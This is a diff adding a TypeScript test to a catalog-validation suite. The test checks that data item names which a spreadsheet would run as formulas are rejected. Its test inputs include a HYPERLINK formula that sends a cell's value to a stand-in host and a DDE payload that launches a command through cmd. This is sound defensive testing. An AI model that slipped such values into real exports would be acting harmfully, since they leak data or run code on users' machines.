@@ -104,6 +104,17 @@ describe('what must hold whenever a catalog is written', () => {
     ]);
   });
 
+  test.each(['=HYPERLINK("http://x"&A2,"点")', '＋ＳＵＭ（A1）', "@SUM(1)*cmd|'/C calc'!A0"])(
+    'R22.1 no item is named %j, for its name heads a column',
+    (name) => {
+      const dataItems = [
+        { name: '-HBsAg(阴性)', type: 'string' as const },
+        { name, type: 'string' as const },
+      ];
+      expect(faultsOf({ dataItems })).toEqual([fault('/dataItems/1/name', 'formula')]);
+    },
+  );
+
   test('no item is shared more freely than its catalog', () => {
     const dataItems = [
       { name: '坐落', type: 'string' as const, sharingClass: 'unconditional' as const },
